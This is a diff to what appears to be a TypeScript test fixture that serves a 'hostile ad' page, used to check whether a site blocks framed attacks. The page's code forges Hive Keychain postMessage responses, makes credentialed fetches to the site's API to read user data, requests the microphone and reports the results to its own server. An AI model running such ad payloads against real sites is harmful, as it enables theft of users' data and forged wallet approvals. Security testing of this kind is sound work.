@@ -3,18 +3,18 @@ import type { AddressInfo } from 'node:net'
 
 export interface HostileAd {
   url: string
-  /** What its page achieved, by attempt: 'refused', or what came of it. */
+  /** The outcome of each attempt of its page: 'refused', or what it obtained. */
   report(): Promise<Record<string, string>>
-  /** The distinct referrers that its page was asked for with. */
+  /** The distinct referrers of the requests for its page. */
   referrers(): string[]
-  /** Its page, to be served from elsewhere. */
+  /** The HTML of its page, to be served from elsewhere. */
   page(): string
-  /** The site whose calls it tries. */
-  aimAt(siteUrl: string): void
+  /** Sets the site whose API the page tries to call. */
+  setTarget(siteUrl: string): void
   close(): Promise<void>
 }
 
-/** Runs in the frame. Every attempt that returns has succeeded. */
+/** Runs in the frame. An attempt that returns a value has succeeded. */
 function attack(): void {
   const outcomes: Record<string, string> = {}
   const attempt = (name: string, run: () => unknown) => {
@@ -56,9 +56,9 @@ function attack(): void {
     window.parent.postMessage({ type: 'hive_keychain_response', response: { success: true, request_id: message } }, '*')
   }
   const site = document.documentElement.dataset.site
-  if (!site) throw new Error('the page does not know what to attack')
-  const asked = ['/api/streams', '/api/follows/following'].map(async (path) => {
-    outcomes[`answer of ${path}`] = await fetch(site + path, { credentials: 'include' }).then(
+  if (!site) throw new Error('no site was set to attack')
+  const requests = ['/api/streams', '/api/follows/following'].map(async (path) => {
+    outcomes[`response of ${path}`] = await fetch(site + path, { credentials: 'include' }).then(
       async (response) => `got ${await response.text()}`,
       () => 'refused',
     )
@@ -67,16 +67,16 @@ function attack(): void {
     () => 'got the microphone',
     () => 'refused',
   )
-  Promise.all([...asked, devices]).then(([, , microphone]) => {
+  Promise.all([...requests, devices]).then(([, , microphone]) => {
     outcomes.microphone = String(microphone ?? 'refused')
-    // Navigation is asynchronous: by then it has happened, or will not.
+    // Navigation is asynchronous: after a second it has happened, or it will not.
     setTimeout(() => {
       void fetch('/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) })
     }, 1000)
   })
 }
 
-/** An advertiser's server with a page that tries everything. */
+/** Starts an advertiser's server whose page tries every attack. */
 export async function startHostileAd(): Promise<HostileAd> {
   const referrers = new Set<string>()
   let target = ''
@@ -107,7 +107,7 @@ export async function startHostileAd(): Promise<HostileAd> {
     report: () => reported,
     page,
     referrers: () => [...referrers],
-    aimAt(siteUrl) {
+    setTarget(siteUrl) {
       target = siteUrl
     },
     async close() {
